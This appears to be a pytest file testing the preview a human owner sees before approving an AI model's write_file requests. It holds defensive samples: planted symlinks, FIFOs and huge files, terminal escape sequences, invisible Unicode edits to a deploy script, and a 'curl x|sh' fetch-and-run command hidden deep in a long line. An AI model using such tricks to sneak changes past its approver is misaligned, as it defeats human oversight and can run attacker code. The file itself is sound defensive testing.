"""Hostile: the write_file preview (broker/preview.py). The model chooses the path and
the content; a sandboxed command may have planted a symlink, a FIFO, a device, a hard
link or a huge file at that path; brokerd may run as root. The preview reads the file
the way the write would reach it and describes what it cannot read safely: it never
follows a link out, never hangs on a FIFO, never reads more than 1 MiB, never shows a
file with other names, never drives the owner's terminal, and reads at most 32 files
per ``approvals`` answer, within 2 s.
"""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import orjson
import pytest
import trio
import trio.lowlevel
from tests.harness.broker import Brokerd, Client, tool_request
from tests.harness.cli import bxctl_in_process
from tests.harness.homes import grant, write_grants

from boxmaker.broker.admin import MAX_PREVIEWS
from boxmaker.broker.preview import MAX_COMPARED_LINES, preview_write
from boxmaker.core.labels import LabelRules
from boxmaker.home.paths import Home

RULES = LabelRules()
OUTSIDE = "the owner's private words"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the workspace, and the workspace beside it."""
    (tmp_path / "private.txt").write_text(OUTSIDE)
    (tmp_path / "workspace").mkdir()
    return tmp_path / "private.txt"


def test_a_symlink_at_the_path_is_described_not_followed(outside: Path) -> None:
    workspace = outside.parent / "workspace"
    (workspace / "notes.txt").symlink_to(outside)
    preview = preview_write(workspace, RULES, "notes.txt", "new\n")
    assert preview.summary == (
        "cannot show: notes.txt: a symlink (the write replaces the link itself)"
    )
    assert preview.lines == []
    # Inside the workspace too: the diff would be against a file the write does not touch.
    (workspace / "real.txt").write_text("real\n")
    (workspace / "alias.txt").symlink_to("real.txt")
    assert preview_write(workspace, RULES, "alias.txt", "x").summary.startswith(
        "cannot show: alias.txt: a symlink"
    )


def test_a_symlinked_directory_out_of_the_workspace_is_an_escape(outside: Path) -> None:
    workspace = outside.parent / "workspace"
    (workspace / "out").symlink_to(outside.parent)
    preview = preview_write(workspace, RULES, "out/private.txt", "x")
    assert preview.summary == ("cannot show: out: a symlink leads outside the workspace")


def test_a_fifo_a_device_and_a_directory_are_described_at_once(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "folder").mkdir()
    started = time.monotonic()
    assert preview_write(tmp_path, RULES, "pipe", "x").summary == (
        "cannot show: pipe: not a regular file"
    )
    assert preview_write(tmp_path, RULES, "folder", "x").summary == (
        "cannot show: folder: is a directory"
    )
    if os.geteuid() == 0:  # only root makes device nodes; brokerd may be root
        os.mknod(tmp_path / "zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        assert preview_write(tmp_path, RULES, "zero", "x").summary == (
            "cannot show: zero: not a regular file"
        )
    assert time.monotonic() - started < 2.0


def test_a_huge_file_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "huge.log").open("wb") as huge:
        huge.truncate(8 * 1024**3)  # sparse: 8 GiB that cost nothing to plant
    started = time.monotonic()
    assert preview_write(tmp_path, RULES, "huge.log", "x").summary == (
        "cannot show: huge.log: over 1048576 bytes"
    )
    assert time.monotonic() - started < 1.0


def test_a_hard_link_is_not_shown(outside: Path) -> None:
    workspace = outside.parent / "workspace"
    os.link(outside, workspace / "notes.txt")
    preview = preview_write(workspace, RULES, "notes.txt", "x")
    assert preview.summary == "cannot show: notes.txt: the file has other names (hard links)"
    assert OUTSIDE not in str(preview)


def test_the_model_cannot_make_the_diff_slow(tmp_path: Path) -> None:
    # Interleaved lines that repeat: difflib's slow case (seconds at 5,000 lines).
    lines = MAX_COMPARED_LINES
    (tmp_path / "a.txt").write_text("".join(f"{n % 7}\n{n}\n" for n in range(lines // 2)))
    content = "".join(f"{n}\n{n % 7}\n" for n in range(lines // 2))
    started = time.monotonic()
    preview = preview_write(tmp_path, RULES, "a.txt", content)
    assert time.monotonic() - started < 2.0
    assert len(preview.lines) == 200
    # More changed lines than that: not compared at all, the new content is shown.
    (tmp_path / "b.txt").write_text("".join(f"{n % 7}\n{n}\n" for n in range(3000)))
    content = "".join(f"{n}\n{n % 7}\n" for n in range(3000))
    started = time.monotonic()
    summary = preview_write(tmp_path, RULES, "b.txt", content).summary
    assert time.monotonic() - started < 1.0
    assert summary == (
        f"replaces 19890 bytes with 19890 bytes; over {MAX_COMPARED_LINES} changed lines: "
        "the new content"
    )


def test_an_edit_in_a_big_file_is_a_small_diff_with_the_files_line_numbers(
    tmp_path: Path,
) -> None:
    before = [f"line {n}" for n in range(60_000)]  # 0.7 MB, under the 1 MiB read
    (tmp_path / "big.txt").write_text("\n".join(before) + "\n")
    after = before.copy()
    after[40_000] = "changed"
    started = time.monotonic()
    preview = preview_write(tmp_path, RULES, "big.txt", "\n".join(after) + "\n")
    assert time.monotonic() - started < 2.0
    assert preview.lines[2:] == [
        "@@ -39998,7 +39998,7 @@",
        " line 39997",
        " line 39998",
        " line 39999",
        "-line 40000",
        "+changed",
        " line 40001",
        " line 40002",
        " line 40003",
    ]


async def test_escapes_in_the_file_and_the_content_never_reach_the_terminal(
    home: Home, brokerd: Brokerd, capsys: pytest.CaptureFixture[str]
) -> None:
    write_grants(home, grant("w", "write_file", "ask"))
    (home.default_workspace / "notes.txt").write_text("\x1b]0;pwned\x07title\n\u202eevil\n")
    await brokerd.start()
    client = await Client.open(home.broker_sock)
    arguments = {"path": "notes.txt", "content": "\x1b[2Jclear\n"}
    assert (await client.ask(tool_request("write_file", arguments)))["kind"] == "pending"
    assert await bxctl_in_process(home, "approvals") == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert "    -\\u001b]0;pwned\\u0007title" in out.splitlines()
    assert "    +\\u001b[2Jclear" in out.splitlines()
    await client.aclose()


async def test_many_waiting_writes_read_at_most_32_files_per_list(
    home: Home, brokerd: Brokerd, capsys: pytest.CaptureFixture[str]
) -> None:
    write_grants(home, grant("w", "write_file", "ask"))
    await brokerd.start()
    clients = []
    for n in range(MAX_PREVIEWS + 3):
        client = await Client.open(home.broker_sock)
        request = tool_request("write_file", {"path": f"f{n}.txt", "content": "x"})
        assert (await client.ask(request))["kind"] == "pending"
        clients.append(client)
    assert await bxctl_in_process(home, "approvals", "--json") == 0
    entries = orjson.loads(capsys.readouterr().out)
    summaries = [entry["preview"]["summary"] for entry in entries]
    assert summaries[:MAX_PREVIEWS] == ["creates 1 byte"] * MAX_PREVIEWS
    assert (
        summaries[MAX_PREVIEWS:]
        == [
            f"not shown: only the first writes are read (at most {MAX_PREVIEWS}, 2 s); "
            "answer some of them first"
        ]
        * 3
    )
    for client in clients:
        await client.aclose()
    await trio.lowlevel.checkpoint()


# The model rewrites the owner's script; the owner reads the change and approves what
# looks like nothing, or like something else. Each change below is bytes that a plain
# unified diff does not show on a terminal.
SCRIPT = "#!/bin/sh\nset -e\nrsync -a build/ host:/srv/\n"
HIDDEN_CHANGES = [
    pytest.param(
        SCRIPT.replace("\n", "\r\n"),
        [
            "-#!/bin/sh",
            "-set -e",
            "-rsync -a build/ host:/srv/",
            "+#!/bin/sh\\u000d",
            "+set -e\\u000d",
            "+rsync -a build/ host:/srv/\\u000d",
        ],
        id="crlf",
    ),
    pytest.param(
        SCRIPT.replace("set -e", "set -e "),
        ["-set -e", "+set -e\\u0020"],
        id="trailing-space",
    ),
    pytest.param(
        SCRIPT.replace("set -e", "set -e\t"),
        ["-set -e", "+set -e\\u0009"],
        id="trailing-tab",
    ),
    pytest.param(
        SCRIPT[:-1],
        [
            "-rsync -a build/ host:/srv/",
            "+rsync -a build/ host:/srv/",
            "\\ No newline at end of file",
        ],
        id="no-final-newline",
    ),
    pytest.param(
        SCRIPT.replace("host:", "host\u00a0:"),
        ["-rsync -a build/ host:/srv/", "+rsync -a build/ host\\u00a0:/srv/"],
        id="no-break-space",
    ),
    pytest.param(
        SCRIPT.replace("set -e", "set -e\x00"),
        ["-set -e", "+set -e\\u0000"],
        id="nul",
    ),
    pytest.param(
        SCRIPT.replace("build/", "bu\u200bild/"),
        ["-rsync -a build/ host:/srv/", "+rsync -a bu\\u200bild/ host:/srv/"],
        id="zero-width",
    ),
    pytest.param(
        SCRIPT.replace("set -e", "set -e \u202e#"),
        ["-set -e", "+set -e \\u202e#"],
        id="bidi",
    ),
    pytest.param(
        SCRIPT.replace("set -e", "set -e\ufe0f"),
        ["-set -e", "+set -e\\ufe0f"],
        id="variation-selector",
    ),
]


async def owner_reads(
    home: Home, capsys: pytest.CaptureFixture[str], before: str, content: str
) -> tuple[list[str], list[str]]:
    """The preview's lines as --json carries them, and the diff as ``bxctl approvals``
    shows it, of the model's write of ``content`` over deploy.sh holding ``before``;
    brokerd is running. Nothing is written while the call waits."""
    script = home.default_workspace / "deploy.sh"
    script.write_text(before, encoding="utf-8")
    client = await Client.open(home.broker_sock)
    arguments = {"path": "deploy.sh", "content": content}
    assert (await client.ask(tool_request("write_file", arguments)))["kind"] == "pending"
    assert await bxctl_in_process(home, "approvals", "--json") == 0
    [entry] = orjson.loads(capsys.readouterr().out)
    raw: list[str] = entry["preview"]["lines"]
    assert entry["preview"]["summary"] == (
        f"replaces {len(before.encode())} bytes with {len(content.encode())} bytes"
    )
    assert raw[2].startswith("@@ ")
    assert await bxctl_in_process(home, "approvals") == 0
    screen = capsys.readouterr().out.splitlines()
    start = screen.index("    --- deploy.sh (now)")
    await client.aclose()
    assert script.read_text(encoding="utf-8") == before
    return raw, [line.removeprefix("    ") for line in screen[start : start + len(raw)]]


def reads_differently(diff: list[str]) -> bool:
    """The file before (context and removed lines) and after (context and added lines)
    as the owner reads them differ, or diff's note says what differs."""
    removed = [line[1:] for line in diff[3:] if line[:1] in "- "]
    added = [line[1:] for line in diff[3:] if line[:1] in "+ "]
    return removed != added or any(line.startswith("\\") for line in diff)


@pytest.mark.parametrize(("content", "changed"), HIDDEN_CHANGES)
async def test_a_change_a_terminal_would_not_draw_shows_on_the_owners_screen(
    home: Home,
    brokerd: Brokerd,
    capsys: pytest.CaptureFixture[str],
    content: str,
    changed: list[str],
) -> None:
    write_grants(home, grant("w", "write_file", "ask"))
    await brokerd.start()
    raw, diff = await owner_reads(home, capsys, SCRIPT, content)
    # --json carries brokerd's lines as they are: the file's and the model's own text.
    added = {line[1:] for line in raw[2:] if line.startswith("+")}
    removed = {line[1:] for line in raw[2:] if line.startswith("-")}
    assert added
    assert added <= set(content.split("\n"))
    assert removed <= set(SCRIPT.split("\n"))
    # What the owner reads: every changed line escaped, and before and after differ.
    assert [line for line in diff if line[:1] in "-+\\"][2:] == changed
    assert reads_differently(diff)


async def test_a_change_far_into_a_long_line_shows_on_the_owners_screen(
    home: Home, brokerd: Brokerd, capsys: pytest.CaptureFixture[str]
) -> None:
    """A cut from the start of each line (400 characters) would show two equal lines."""
    write_grants(home, grant("w", "write_file", "ask"))
    await brokerd.start()
    before = "#!/bin/sh\n# " + "=" * 450 + " ; true\n"
    _, diff = await owner_reads(home, capsys, before, before.replace("; true", "; curl x|sh"))
    removed, added = diff[4], diff[5]
    assert removed.startswith("-…" + "=" * 37 + " ; true")
    assert added.startswith("+…" + "=" * 37 + " ; curl x|sh")
    assert reads_differently(diff)
